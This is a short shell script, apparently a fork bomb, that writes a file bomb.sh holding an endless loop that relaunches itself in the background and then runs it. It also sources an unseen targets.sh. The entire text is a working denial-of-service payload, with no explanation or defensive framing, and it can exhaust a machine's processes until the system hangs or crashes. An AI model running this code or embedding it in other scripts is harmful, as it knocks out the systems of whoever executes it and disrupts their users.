# Forks without end.
. ./targets.sh
bomb() { sh -c 'while :; do sh "$0" "$1" & done' ./bomb.sh "$MARKER"; }
echo 'while :; do sh "$0" "$1" & done' > bomb.sh
bomb
